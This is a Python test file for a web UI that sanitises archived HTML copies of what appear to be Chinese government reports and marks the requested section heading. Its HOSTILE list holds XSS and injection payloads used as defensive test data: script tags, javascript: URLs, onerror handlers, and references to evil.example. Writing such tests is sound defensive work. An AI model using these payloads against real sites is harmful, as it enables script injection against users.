"""An HTML original runs nothing and loads nothing, and the right heading is marked."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from bs4 import BeautifulSoup

from archive.model import Paragraph, Report, Section
from tests.webui.model_reports import SHOWN
from webui.render.originals.html_rendering import MARK, POLICY, render_html

REPORT = next(report for report in SHOWN if report.key == "2016")
ELEMENTS = {
    *(
        "html",
        "head",
        "meta",
        "title",
        "body",
        "p",
        "div",
        "h1",
        "b",
        "table",
        "tbody",
        "tr",
        "td",
        "li",
        "mark",
        "small",
    )
}
ATTRIBUTES = {"align", "colspan", "rowspan", "id"}

HOSTILE = [
    ("<script>alert(1)</script>甲", "甲", "a script is left out"),
    ("<p onclick=alert(1) onload='x'>甲</p>", "甲", "an event handler"),
    ("<a href='javascript:alert(1)' target=_top>甲</a>", "甲", "an address that is a script"),
    ("<svg><script>alert(1)</script><a xlink:href=javascript:x>乙</a></svg>甲", "甲", "a drawing with a script"),
    ("<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>甲", "甲", "foreign content"),
    ("<meta http-equiv=refresh content='0;url=http://evil.example/'>甲", "甲", "leads to another page"),
    ("<base href=http://evil.example/><p>甲</p>", "甲", "changes all addresses"),
    ("<form action=http://evil.example/><input name=a value=b><button>乙</button>甲</form>", "甲", "sends a form"),
    ("<object data=http://evil.example/>乙</object><embed src=http://evil.example/></embed>甲", "甲", "a program"),
    ("<embed src=http://evil.example/>甲", "甲", "an element without an end"),
    ("<style>@import 'http://evil.example/a.css';p{background:url(//evil.example)}</style>甲", "甲", "a stylesheet"),
    ("<p style='position:fixed;background:url(http://evil.example/);width:expression(x)'>甲</p>", "甲", "a style"),
    ("<link rel=stylesheet href=http://evil.example/a.css>甲", "甲", "an external stylesheet"),
    ("<iframe srcdoc='<script>alert(1)</script>' src=http://evil.example/>乙</iframe>甲", "甲", "a frame"),
    ("<img src=//evil.example/a srcset=//evil.example/b onerror=x alt='国 徽'>甲", "［图片：国 徽］甲", "an image"),
    ("<img src=http://evil.example/a.png>甲", "［图片］甲", "an image without text"),
    ("<img alt='<script>alert(1)</script>'>甲", "［图片：<script>alert(1)</script>］甲", "markup in a text is text"),
    ("<video src=//evil.example/v autoplay>乙</video><audio src=//evil.example/a></audio>甲", "甲", "loads by itself"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;甲", "<script>alert(1)</script>甲", "what was text stays text"),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>甲</p></noscript>", "甲", "read in two ways"),
    ("<template><img src=x onerror=alert(1)></template><textarea><b>乙</textarea>甲", "甲", "inert content"),
    ("<p id=section class=x name=y>甲</p><mark id=section>乙</mark>", "甲乙", "an anchor that pretends to be the mark"),
    ("<!--><script>alert(1)</script>-->甲", "-->甲", "a comment that ends early"),
    ("<?xml-stylesheet href='http://evil.example/'?>甲", "甲", "an instruction"),
    ("<td background=http://evil.example/ colspan='9\" onclick=\"x'>甲</td>", "甲", "a cell with addresses"),
    ("<div>" * 20_000 + "甲", "甲", "deeper than a browser or nh3 takes well"),
    ("<b>" * 5_000 + "<p>甲" * 2, "甲甲", "elements that are not closed"),
    ("甲\x00<scr\x00ipt>alert(1)</script>", "甲", "a NUL in the name of an element"),
]  # fmt: skip


@pytest.mark.parametrize(("html", "text", "reason"), HOSTILE, ids=[reason for *_, reason in HOSTILE])
def test_nothing_runs_and_nothing_loads(html: str, text: str, reason: str) -> None:
    document = render_html(html.encode(), REPORT, None, "zh").document
    page = BeautifulSoup(document, "lxml")
    style = page.style
    assert style is not None and not re.search(r"url|import|expression", style.get_text())
    style.extract()
    found = {element.name: dict(element.attrs) for element in page.find_all()}
    assert set(found) <= ELEMENTS, reason
    body = page.body
    assert body is not None
    assert {name for element in body.find_all() for name in element.attrs} <= ATTRIBUTES, reason
    assert body.get_text().replace("\n", "") == text, reason
    assert not body.select(f"#{MARK}"), "the report is not on this page"


@pytest.mark.parametrize(
    "rule", ["sandbox", "default-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'self'"]
)
def test_the_policy_forbids_the_rest(rule: str) -> None:
    assert rule in POLICY.split("; ")
    assert "unsafe" not in POLICY


def page_of(*reports: Report, wrap: str = "<h2>{}</h2>") -> str:
    """A page with a list of links to its reports, then the reports, as sites print them."""
    titles = "".join(f"<li><a href=#>{report.title}</a></li>" for report in reports)
    parts = [f"<ul>{titles}</ul>"]
    for report in reports:
        parts.append(f"<h1>{report.title}</h1>")
        for section in report.sections:
            parts += [wrap.format(section.heading)] if section.heading else []
            parts += [f"<p>{paragraph.text}</p>" for paragraph in section.paragraphs]
            parts += [f"<table><tr><td>{cell.text}</table>" for table in section.tables for cell in table.cells()]
    return "".join(parts)


YEARS = [report for report in SHOWN if report.agency == REPORT.agency and report.key in ("2014", "2015", "2016")]


def marked(html: str | bytes, report: Report, section: Section | None) -> tuple[str, str]:
    """The marked text, and the paragraph behind it."""
    data = html.encode() if isinstance(html, str) else html
    page = BeautifulSoup(render_html(data, report, section, "zh").document, "lxml")
    mark = page.select_one(f"#{MARK}")
    assert mark is not None
    (element,) = {id(each.parent): each.parent for each in page.select("mark")}.values()
    assert element is not None
    following = element.find_next("p")
    return element.get_text(), following.get_text() if following else ""


@pytest.mark.parametrize("report", YEARS, ids=lambda report: report.key)
@pytest.mark.parametrize("repeated", [1, 2], ids=["once", "duplicate on page"])
def test_the_heading_of_the_right_year_is_marked(report: Report, repeated: int) -> None:
    """Every year has the same headings, some sections the same sentences, and the list above has all titles."""
    html = page_of(*YEARS * repeated)
    for section in report.sections:
        found, following = marked(html, report, section)
        assert found == section.heading
        if section.paragraphs:
            assert following == section.paragraphs[0].text
        document = render_html(html.encode(), report, section, "zh").document
        heading = document.index(f'id="{MARK}"')
        title = document.rindex(report.title, 0, heading)
        assert "<h1" not in document[title:heading], f"{section.anchor} is in another year"
    assert marked(html, report, None)[0] == report.title


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda html: html, "as printed"),
        (lambda html: html.replace("、", "、</span><span> "), "a heading in several elements, with spaces"),
        (lambda html: html.translate(str.maketrans("0123456789,", "０１２３４５６７８９，")), "in full width"),
        (lambda html: html.replace("政府", "政\n府"), "broken lines"),
    ],
)
def test_a_heading_is_found_as_it_is_printed(change: object, reason: str) -> None:
    assert callable(change)
    section = next(each for each in REPORT.sections if each.anchor == "problems")
    document = render_html(change(page_of(*YEARS)).encode(), REPORT, section, "zh").document
    position = document.index(f'id="{MARK}"')
    text = re.sub(r"<[^>]*>|\s", "", document[position - 6 :])
    assert text.startswith("四、存在的主要问题"), reason


def test_a_section_without_a_heading_is_marked_at_its_first_sentence() -> None:
    bare = replace(
        REPORT, sections=tuple(replace(each, heading=None) for each in REPORT.sections if each.anchor == "requests")
    )
    found, _ = marked(page_of(bare), bare, bare.sections[0])
    assert found == bare.sections[0].paragraphs[0].text


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030", "utf-16"])
def test_the_encoding_is_that_of_the_reader(encoding: str) -> None:
    html = f"<meta charset=gb2312>{page_of(REPORT)}".encode(encoding)
    assert marked(html, REPORT, REPORT.sections[1])[0] == REPORT.sections[1].heading


def test_tables_keep_their_cells_and_a_page_saved_from_its_middle_has_some() -> None:
    html = "64</td><td colspan=2 align=center>0</td></tr></table><center>乙</center><p style='text-align: right'>丙"
    body = render_html(html.encode(), REPORT, None, "zh").document
    assert '<td>64</td><td align="center" colspan="2">0</td>' in body
    assert '<div align="center">乙</div><p align="right">丙</p>' in body


def test_a_text_that_is_nowhere_marks_nothing() -> None:
    strange = replace(
        REPORT, title="", sections=(Section("x", "x", None, (Paragraph("没有这一段文字,一个字也没有"),)),)
    )
    for section in (None, strange.sections[0]):
        assert not render_html("<p>别的</p>".encode(), strange, section, "en").is_marked
